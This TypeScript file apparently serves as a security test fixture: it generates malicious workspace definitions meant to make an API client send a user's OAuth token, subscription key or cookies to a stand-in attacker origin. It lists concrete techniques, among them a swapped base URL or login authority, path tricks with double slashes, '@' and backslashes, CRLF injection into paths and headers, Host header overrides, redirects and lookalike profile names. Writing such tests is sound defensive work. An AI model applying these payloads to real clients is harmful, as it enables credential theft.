/** What the user has: a profile of this name, and a token and a key kept for its origin. */
export interface Targets {
  /** The login host of the user's profile, and its own tenant. */
  cloud: string;
  tenant: string;
  clientId: string;
  scopes: string[];
  /** Where the user's token and key belong. */
  goodOrigin: string;
  /** Listens for what leaks. */
  evilOrigin: string;
}

/** One workspace as its author would write it, to have the user's credentials sent elsewhere. */
export interface HostileWorkspace {
  name: string;
  apis: Record<string, unknown>;
  /** Its operation; no two workspaces have the same. */
  operation: string;
  /** False where the profile has a fault, so that nothing of it can be chosen. */
  isOffered: boolean;
}

export const USER_PROFILE = 'orders-dev';

const GRAPH_SCOPES = ['https://graph.microsoft.com/.default'];
const OTHER_CLIENT = '11111111-2222-4333-8444-555555555555';

/** Every workspace uses the name of the user's profile, unless the name itself is the attack. */
export function hostileWorkspaces(targets: Targets): HostileWorkspace[] {
  return proposals(targets).map(({ name, profileName = USER_PROFILE, profile, path, more, isFaulty }, position) => {
    const operation = `Case ${position}.`;
    const operations = [{ name: operation, method: 'GET', path: `${path}?${markOf(operation)}`, ...more }];
    return {
      name,
      operation,
      isOffered: !isFaulty,
      apis: { [profileName]: { ...profile, operations } },
    };
  });
}

/** Is in the address of that operation, and of no other. */
export function markOf(operation: string): string {
  return operation.replace(' ', '-');
}

interface Proposal {
  name: string;
  profileName?: string;
  profile: object;
  path: string;
  more?: object;
  isFaulty?: boolean;
}

function proposals(targets: Targets): Proposal[] {
  const { goodOrigin, evilOrigin, clientId, scopes, cloud, tenant } = targets;
  const evilHost = new URL(evilOrigin).host;
  const goodHost = new URL(goodOrigin).host;
  const user = {
    cloud,
    tenant,
    baseUrl: goodOrigin,
    identities: { me: { signIn: 'browser', clientId, scopes } },
  };
  const reusing = (name: string, change: object, path = '/orders', more: object = {}): Proposal => {
    return { name, profile: { ...user, ...change }, path, more };
  };
  const faulty = (proposal: Proposal): Proposal => ({ ...proposal, isFaulty: true });
  const identity = (change: object) => ({ me: { signIn: 'browser', clientId, scopes, ...change } });
  const toEvil = { baseUrl: evilOrigin };
  return [
    reusing('another baseUrl', toEvil),
    reusing('another baseUrl, the good origin in its path', { baseUrl: `${evilOrigin}/${goodHost}` }),
    reusing('another baseUrl, the good origin among the origins', { ...toEvil, origins: [goodOrigin] }),
    reusing('both origins allowed', { ...toEvil, origins: [goodOrigin, evilOrigin] }),
    reusing('another authority', {
      cloud: undefined,
      tenant: undefined,
      authority: 'https://login.evil.example/t',
      ...toEvil,
    }),
    reusing('another cloud', { cloud: 'https://login.evil.example', ...toEvil }),
    reusing('another tenant', { tenant: 'fabrikam.onmicrosoft.com', ...toEvil }),
    reusing('another client', { identities: identity({ clientId: OTHER_CLIENT }), ...toEvil }),
    reusing('Graph scopes', { identities: identity({ scopes: GRAPH_SCOPES }), ...toEvil }),
    reusing('Graph scopes beside the API’s', {
      identities: identity({ scopes: [...scopes, ...GRAPH_SCOPES] }),
      ...toEvil,
    }),
    reusing('a path of two slashes', {}, `//${evilHost}/orders`),
    reusing('a path that goes up', {}, `/..//${evilHost}/orders`),
    reusing('a path that makes the host a user name', {}, `/@${evilHost}/orders`),
    reusing('a path with backslashes', {}, `/\\\\${evilHost}\\orders`),
    reusing('a path with line breaks', {}, `/orders HTTP/1.1\r\nHost: ${evilHost}\r\n\r\nGET ${evilOrigin}/`),
    faulty(reusing('a path without a slash', {}, `@${evilHost}/orders`)),
    faulty(reusing('a full address as the path', {}, `${evilOrigin}/orders`)),
    reusing('a full address behind a slash', {}, `/${evilOrigin}/orders`),
    faulty(reusing('a user name in the baseUrl', { baseUrl: `http://${goodHost}@${evilHost}` })),
    reusing('a path that redirects', {}, '/redirect/other', { query: { status: '307' } }),
    reusing('a path that redirects a POST with its body', {}, '/redirect/other', {
      method: 'POST',
      body: '{}',
      query: { status: '308' },
    }),
    reusing('a challenge that proposes Graph', {}, '/refused', {
      query: {
        challenge: `Bearer authorization_uri="${cloud}/common/oauth2/v2.0/authorize", resource_id="https://graph.microsoft.com", scope="${GRAPH_SCOPES[0]}"`,
      },
    }),
    reusing('another Host header', {}, '/echo', { headers: { Host: evilHost, 'X-Forwarded-Host': evilHost } }),
    reusing('line breaks in a header', toEvil, '/orders', {
      headers: { 'X-One': `1\r\nAuthorization: Bearer {{token}}`, 'X-Two': '%HOME%' },
    }),
    reusing('placeholders in headers', toEvil, '/orders', {
      headers: { Authorization: '{{token}}', 'Ocp-Apim-Subscription-Key': '{{key}}', Cookie: '{{cookies}}' },
    }),
    reusing('a subscription key under a harmless name', {
      ...toEvil,
      target: 'apim',
      subscriptionKey: { header: 'X-Request-Id', query: 'page' },
    }),
    reusing(
      'a subscription key in the address of a redirect',
      {
        target: 'apim',
        subscriptionKey: { query: 'page' },
      },
      '/redirect/other',
    ),
    reusing('a Functions key asked for', { ...toEvil, target: 'functions', authLevel: 'function' }),
    reusing('a query that closes the address', toEvil, '/orders', { query: { 'a=1&b': `2#@${evilHost}` } }),
    {
      ...reusing('a profile name with control characters', toEvil),
      profileName: `${USER_PROFILE}\u0000\u202e`,
      isFaulty: true,
    },
    { ...reusing('a profile name that looks like the user’s', toEvil), profileName: `${USER_PROFILE} ` },
    { ...reusing('a profile named as an identity is', toEvil), profileName: `${USER_PROFILE} · me` },
  ];
}
